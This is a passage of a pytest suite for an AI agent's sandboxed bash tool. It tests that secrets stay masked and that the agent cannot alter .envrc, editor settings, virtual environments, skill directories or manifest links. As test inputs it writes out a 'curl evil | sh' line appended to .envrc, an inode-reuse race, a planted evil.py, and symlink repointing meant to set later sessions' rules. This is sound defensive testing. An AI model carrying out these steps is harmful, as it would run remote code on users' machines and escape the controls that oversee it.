    enter protected directories, and `cat .devcontainer/...` showed the secret."""
    (lab.ws / "env").mkdir()
    (lab.ws / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (lab.ws / holder / "deep").mkdir(parents=True, exist_ok=True)
    (lab.ws / holder / "deep" / "prod.secret.yaml").write_text(TOKEN)
    rules = [{"permission": "*", "pattern": "*", "action": "allow"}, {"permission": "read", "pattern": "**/*.secret.yaml", "action": "deny"}]
    agent = agent_for([arity("cat", 1), arity("grep", 3)], rules=rules)
    for command in (f"cat {holder}/deep/prod.secret.yaml", "grep -r do-not-leak ."):
        data = assert_ran(await agent.call("bash", {"command": command}))
        assert TOKEN not in data["output"], command


async def test_a_virtual_environment_granted_as_the_writable_root_stays_read_only(agent_for: Callable[..., Any], lab: Lab) -> None:
    """`fs.write` on the environment itself (or a directory inside it) does not make it writable."""
    site = lab.ws / ".venv" / "lib" / "site-packages"
    site.mkdir(parents=True)
    (lab.ws / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    for root in ("{workspace}/.venv/**", "{workspace}/.venv/lib/site-packages/**"):
        agent = agent_for(FILE_SHELL, write=(root,))
        _prevented(await agent.call("bash", {"command": "touch .venv/lib/site-packages/evil.py"}))
        assert not (site / "evil.py").exists()


@pytest.mark.parametrize("ending", [".code-workspace", ".sublime-project"])
async def test_an_editor_workspace_file_cannot_be_planted_or_changed(agent_for: Callable[..., Any], lab: Lab, ending: str) -> None:
    """A `*.code-workspace` file holds VS Code settings and tasks (a task can run when the workspace is
    opened), like `.vscode/tasks.json`, and a `*.sublime-project` file the language servers Sublime's LSP
    package starts: none can be made or changed at any depth."""
    (lab.ws / f"team{ending}").write_text('{"folders": []}\n')
    agent = agent_for(FILE_SHELL)
    for command in (f"cp a.txt team{ending}", f"cp a.txt sub/new{ending}", f"mv team{ending} old.json"):
        _prevented(await agent.call("bash", {"command": command}))
    assert (lab.ws / f"team{ending}").read_text() == '{"folders": []}\n'
    assert not (lab.ws / "sub" / f"new{ending}").exists() and not (lab.ws / "old.json").exists()


async def test_a_read_denied_path_made_after_the_walk_is_still_masked(agent_for: Callable[..., Any], lab: Lab) -> None:
    # The walk (`percall.prepare`) and the mount plan run at different moments: the proxy and the placeholder
    # lock come between them, and the lock can wait. A denied file that appears in between (written by the
    # user, a dev server, another call) must be masked all the same: the plan judges existence itself.
    from agentcore.environments import percall

    rules = [
        {"permission": "*", "pattern": "*", "action": "allow"},
        {"permission": "fs.read", "pattern": "{workspace}/between.txt", "action": "deny"},
    ]
    agent = agent_for([arity("cat", 1), allow("cat")], rules=rules)
    environment, policy = agent.engine.environment()

    class Collect:
        data = b""

        async def write(self, chunk: bytes) -> None:
            self.data += chunk

    sink = Collect()

    async def run(call_policy: Any) -> Any:
        (lab.ws / "between.txt").write_text(TOKEN)  # after the walk looked, before the plan
        return await environment.run(["cat", "between.txt"], call_policy, timeout_s=20, sink=sink)

    await percall.run_guarded(environment, policy, agent.engine.manifest, run)
    assert TOKEN not in sink.data.decode()
    # Control: at the next call the path exists from the start and is masked as before.
    assert TOKEN not in assert_ran(await agent.call("bash", {"command": "cat between.txt"}))["output"]



async def _while_running(agent: Any, lab: Lab, script: str, user: Callable[[], None]) -> Any:
    """Run `sh -c script` in the call's sandbox (with every per-call protection, then the sweep) and, once the
    script has written `started`, do `user()` outside the sandbox, as an editor would while the command runs.
    The script waits for what `user` does to show, so both really overlap. Returns the ProcessOutcome."""
    import anyio

    from agentcore.environments import percall

    environment, policy = agent.engine.environment()

    class Sink:
        async def write(self, chunk: bytes) -> None:
            pass

    async def edit_once_started() -> None:
        with anyio.fail_after(20):
            while not (lab.ws / "started").exists():
                await anyio.sleep(0.005)  # polling a condition the sandbox sets, not a guess at timing
        user()

    async def run(call_policy: Any) -> Any:
        async with anyio.create_task_group() as tg:
            tg.start_soon(edit_once_started)
            return await environment.run(["sh", "-c", f"touch started; {script}"], call_policy, timeout_s=20, sink=Sink())

    return await percall.run_guarded(environment, policy, agent.engine.manifest, run)


def _nested_config(lab: Lab) -> tuple[Path, Path]:
    (lab.ws / "sub" / ".vscode").mkdir(parents=True, exist_ok=True)
    envrc, settings = lab.ws / "sub" / ".envrc", lab.ws / "sub" / ".vscode" / "settings.json"
    envrc.write_text("export A=1\n")
    settings.write_text("{}\n")
    return envrc, settings


def _edit_in_place(path: Path, text: str) -> None:
    with open(path, "r+") as f:  # the same inode, as most editors save
        f.write(text)
        f.truncate()


@pytest.mark.parametrize("environment", ["bwrap", "none"])
async def test_what_the_user_changes_during_a_command_in_a_protected_entry_is_kept(
    make_agent: Callable[..., Any], lab: Lab, environment: str
) -> None:
    """ENV-7: the sweep takes back what the command changed, and with bwrap the command could change nothing
    at or beneath an existing protected entry (read-only, its directories pinned). So a change there during the
    command is the user's: an `.envrc` saved in place, an editor setting added. Before, the sweep removed
    both. With the environment `none`, which mounts nothing, the sweep cannot tell and still removes them."""
    envrc, settings = _nested_config(lab)
    agent = make_agent(lab.ws, bash_manifest(FILE_SHELL, environment=environment))

    def user() -> None:
        _edit_in_place(envrc, "export A=user\n")
        (lab.ws / "sub" / ".vscode" / "launch.json").write_text("{}\n")
        _edit_in_place(settings, '{"user": 1}\n')

    outcome = await _while_running(
        agent, lab, "until grep -q user sub/.envrc && [ -e sub/.vscode/launch.json ]; do :; done", user)
    assert outcome.exit_code == 0
    kept = environment == "bwrap"
    assert outcome.protected_removed == (0 if kept else 3)
    assert envrc.exists() is kept and settings.exists() is kept
    if kept:
        assert envrc.read_text() == "export A=user\n" and settings.read_text() == '{"user": 1}\n'
        assert (lab.ws / "sub" / ".vscode" / "launch.json").read_text() == "{}\n"


async def test_a_protected_file_replaced_during_a_command_is_removed(make_agent: Callable[..., Any], lab: Lab) -> None:
    """Renaming another file over a protected one (as vim saves) detaches the sandbox's read-only mount of
    it, and the command can then write the new file: the sweep cannot tell whose it is and removes it.
    Here the command does append to it; nothing of that survives."""
    envrc, _ = _nested_config(lab)
    agent = make_agent(lab.ws, bash_manifest(FILE_SHELL))

    def user() -> None:
        (lab.ws / "new-envrc").write_text("export A=user\n")
        os.replace(lab.ws / "new-envrc", envrc)

    outcome = await _while_running(agent, lab, "until grep -q user sub/.envrc; do :; done; echo 'curl evil | sh' >> sub/.envrc", user)
    assert outcome.exit_code == 0  # the append succeeded: the mount was gone
    assert outcome.protected_removed == 1
    assert not envrc.exists()
    assert not any(b"evil" in content for _, content in lab.snapshot().values())


async def test_a_protected_file_replaced_during_a_command_cannot_come_back_under_its_old_inode_number(
    make_agent: Callable[..., Any], lab: Lab
) -> None:
    """The replacement frees the held inode; a filesystem that hands its number to the next file (ext4 does)
    would let the command recreate the entry under the held (dev, ino), with its own content, and the sweep
    took it for the user's, still held. The runtime keeps each held inode open while it holds it, so no
    other file gets its number and whatever the command puts there is removed."""
    envrc, _ = _nested_config(lab)
    ino = os.lstat(envrc).st_ino
    agent = make_agent(lab.ws, bash_manifest(FILE_SHELL))

    def user() -> None:
        (lab.ws / "new-envrc").write_text("export A=user\n")
        os.replace(lab.ws / "new-envrc", envrc)

    grab = (  # new files in sub/ until one gets the freed number (or give up), then that one becomes .envrc
        f"until [ $(stat -c %i sub/.envrc) != {ino} ]; do :; done; rm sub/.envrc; i=0; "
        f"while [ $i -lt 300 ]; do : > sub/t$i; if [ $(stat -c %i sub/t$i) = {ino} ]; then "
        "echo 'curl evil | sh' > sub/t$i; mv sub/t$i sub/.envrc; break; fi; i=$((i+1)); done; rm -f sub/t*")
    outcome = await _while_running(agent, lab, grab, user)
    assert outcome.exit_code == 0
    assert not any(b"evil" in content for _, content in lab.snapshot().values())


@pytest.mark.parametrize("command", [
    "touch skills/pdf/SKILL.md",  # change an existing skill
    "cp a.txt skills/pdf/extra.md",  # add to one
    "mkdir skills/planted",  # add a skill
    "mv skills/pdf skills/pdf2",  # take one away
    "mkdir -p later/planted",  # a skill directory that does not exist yet
])
async def test_skill_directories_cannot_be_written_from_the_sandbox(make_agent: Callable[..., Any], lab: Lab, command: str) -> None:
    """What a skill says reaches every later session's prompt (ENV-7 rule 5): the skill directories of
    `skills.paths` are read-only whole, and one that does not exist cannot be made."""
    (lab.ws / "skills" / "pdf").mkdir(parents=True)
    (lab.ws / "skills" / "pdf" / "SKILL.md").write_text("---\nname: pdf\ndescription: PDF files.\n---\nUse pdftotext.\n")
    manifest = {**bash_manifest(FILE_SHELL), "skills": {"paths": ["skills", "later"]}}
    agent = make_agent(lab.ws, manifest, engine_kwargs={"watchdog": "default"})
    before = lab.snapshot()
    _prevented(await agent.call("bash", {"command": command}))
    assert lab.snapshot() == before  # nothing changed, and no placeholder is left behind
    # Control: the same agent writes beside the skill directories.
    assert_ran(await agent.call("bash", {"command": "touch skill-notes.md"}))
    assert (lab.ws / "skill-notes.md").exists()


@pytest.mark.parametrize("case", ["linked-directory", "linked-folder", "linked-skill-file"])
async def test_a_skill_reached_through_a_symbolic_link_cannot_be_changed_from_the_sandbox(make_agent: Callable[..., Any], lab: Lab, case: str) -> None:
    """A skill directory named through a symbolic link, or a skill folder or SKILL.md that is one, is read from
    where the link leads: neither the link nor that place may change, or the agent would choose the skills of
    the sessions after it (ENV-7 rule 5). A link inside a writable root cannot be kept read-only: bash fails closed."""
    body = "---\nname: pdf\ndescription: PDF files.\n---\nUse pdftotext.\n"
    for d in ("real/skills/pdf", "shared/pdf", "docs", "evil/pdf", "skills"):
        (lab.ws / d).mkdir(parents=True, exist_ok=True)
    for f in ("real/skills/pdf/SKILL.md", "shared/pdf/SKILL.md", "docs/pdf.md", "evil/pdf/SKILL.md"):
        (lab.ws / f).write_text(body)
    paths, command = {
        "linked-directory": (["linked"], "ln -sfn evil linked"),
        "linked-folder": (["skills"], "cp a.txt shared/pdf/SKILL.md"),
        "linked-skill-file": (["skills"], "cp a.txt docs/pdf.md"),
    }[case]
    (lab.ws / "linked").symlink_to("real/skills")
    if case == "linked-folder":
        (lab.ws / "skills" / "pdf").symlink_to("../shared/pdf")
    elif case == "linked-skill-file":
        (lab.ws / "skills" / "pdf").mkdir()
        (lab.ws / "skills" / "pdf" / "SKILL.md").symlink_to("../../docs/pdf.md")
    manifest = {**bash_manifest(FILE_SHELL), "skills": {"paths": paths}}
    agent = make_agent(lab.ws, manifest, engine_kwargs={"watchdog": "default"})
    before = lab.snapshot()
    env = await agent.call("bash", {"command": command})
    if case == "linked-directory":
        assert_refused(env, "environment", "unavailable")
    else:
        _prevented(env)
        assert_ran(await agent.call("bash", {"command": "touch docs/notes.md"}))  # control: beside them
        before["ws/docs/notes.md"] = (stat.S_IFREG, b"")
    assert lab.snapshot() == before


@pytest.mark.parametrize("case", ["linked-manifest", "linked-subagent"])
async def test_a_link_on_the_way_to_the_manifest_or_a_subagents_cannot_be_repointed(make_agent: Callable[..., Any], lab: Lab, case: str) -> None:
    """The next compile follows the links to the manifest and to its subagents' manifests as it finds them: a
    command that pointed one at a manifest of its own would choose the next session's rules (ENV-7 rule 5)."""
    import yaml

    (lab.ws / "conf").mkdir()
    (lab.ws / "evil").mkdir()
    for d in ("conf", "evil"):
        (lab.ws / d / "helper.yaml").write_text("name: helper\ntools: [read]\n")
    (lab.ws / "evil.yaml").write_text("name: evil\n")
    (lab.ws / "agents").symlink_to("conf")
    manifest = {**bash_manifest(FILE_SHELL), "agents": {"helper": "../agents/helper.yaml"}}  # from conf/
    (lab.ws / "conf" / "agent.yaml").write_text(yaml.safe_dump(manifest))
    (lab.ws / "agent.yaml").symlink_to("conf/agent.yaml")
    command = {"linked-manifest": "ln -sfn evil.yaml agent.yaml", "linked-subagent": "ln -sfn evil agents"}[case]
    agent = make_agent(lab.ws, lab.ws / "agent.yaml", engine_kwargs={"watchdog": "default"})
    before = lab.snapshot()
    assert_refused(await agent.call("bash", {"command": command}), "environment", "unavailable")
    assert lab.snapshot() == before
